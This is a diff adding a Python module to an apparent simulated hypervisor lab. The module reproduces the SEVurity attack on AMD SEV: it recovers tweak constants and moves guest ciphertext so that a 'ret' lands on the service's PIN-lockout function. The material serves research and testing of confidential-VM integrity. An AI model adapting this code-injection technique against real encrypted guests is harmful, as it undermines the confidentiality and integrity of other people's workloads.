@@ -1,0 +1,86 @@
+"""A09: SEVurity (Wilke et al., "SEVurity: No Security Without Integrity", IEEE S&P 2020).
+
+First-generation parts tweak each 16-byte block with a linear function of its host physical
+address whose constants are shared by every key, the host's SME key included. The hypervisor
+recovers them with its own key (hv.attacks.tweak_solver), then moves guest ciphertext: a block
+of known plaintext m' copied from q to p (and, under XEX, XORed with T(p)^T(q)) decrypts at p to
+m' ^ T(p) ^ T(q). Searching the guest's known image for a block that yields 0xC3 (`ret`) as its
+first byte at the start of lockout() disables the service's wrong-PIN lockout: chosen code in an
+encrypted guest without its key. Zen 2's random per-boot tweak defeats the first step.
+"""
+
+from __future__ import annotations
+
+from hv import boot
+from hv.attacks.lab import OP_CHECK_PIN, Lab, Request
+from hv.attacks.outcome import Outcome
+from hv.attacks.secrets import fresh_secret
+from hv.attacks.tweak_solver import Unsolvable, recover_constants, tweak
+from hv.hw.machine import TweakMode
+
+__all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run"]
+
+ID = "A09"
+NAME = "SEVurity"
+PAPER = "Wilke et al., SEVurity: No Security Without Integrity, IEEE S&P 2020"
+PRIMITIVES = ("R", "W", "T")
+
+RET = 0xC3
+WRONG, LOCKED = 1, 2
+
+
+def _pattern(t: int) -> bytes:
+    return t.to_bytes(4, "little") * 4
+
+
+def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, int] | None:
+    """Move a known-plaintext image block onto `target_gpa` so its first byte decrypts to RET.
+    Returns (source GPA, delta) or None."""
+    xex = lab.machine.tweak_mode() is not TweakMode.XE_LINEAR
+    p = lab.spa(target_gpa)
+    for gpa, data in boot.image_regions(lab.image, lab.config.mem_size):
+        for off in range(0, len(data) - 15, 16):
+            src = gpa + off
+            if src >> 4 == target_gpa >> 4:
+                continue
+            delta = tweak(constants, p) ^ tweak(constants, lab.spa(src))
+            if data[off] ^ (delta & 0xFF) != RET:
+                continue
+            cells = lab.vm.read_gpa(src, 16)
+            if xex:
+                cells = bytes(x ^ y for x, y in zip(cells, _pattern(delta)))
+            lab.vm.write_gpa(target_gpa, cells)
+            return src, delta
+    return None
+
+
+def run(mode: str, *, tweak_mode: TweakMode = TweakMode.XEX_LINEAR) -> Outcome:
+    if mode == "plain":
+        return Outcome(ID, mode, "n/a", "a plain VM is not encrypted: the hypervisor writes code directly")
+    secret = fresh_secret()
+    wrong_pin = int.from_bytes(secret[:4], "little") ^ 0x5A5A5A5A
+    statuses: list[int] = []
+    with Lab("service", mode, secret=secret, tweak=tweak_mode) as lab:
+        try:
+            constants = recover_constants(lab.machine)   # before the guest is loaded
+        except Unsolvable as e:
+            return Outcome(ID, mode, "failed", f"{tweak_mode.value}: {e}")
+        lab.launch()
+        target = lab.symbols["lockout"]
+        planted = _plant(lab, constants, target)
+
+        def script():
+            for _ in range(5):
+                r = yield Request(OP_CHECK_PIN, wrong_pin)
+                statuses.append(r.status)
+
+        lab.run(script())
+    shown = ", ".join(f"t{b}={constants[b]:#010x}" for b in (4, 5, 6))
+    head = f"{tweak_mode.value}: recovered t4..t{max(constants)} with the host key ({shown}, ...)"
+    if planted is None:
+        return Outcome(ID, mode, "failed", f"{head}; no image block gives a 'ret' at lockout()")
+    src, delta = planted
+    locked = LOCKED in statuses
+    tail = (f"moved the block at GPA {src:#x} onto lockout() at {target:#x} (delta {delta:#010x}) "
+            f"-> 'ret'; after 5 wrong PINs the guest " + ("still locked" if locked else "never locked"))
+    return Outcome(ID, mode, "failed" if locked else "succeeded", f"{head}; {tail}")
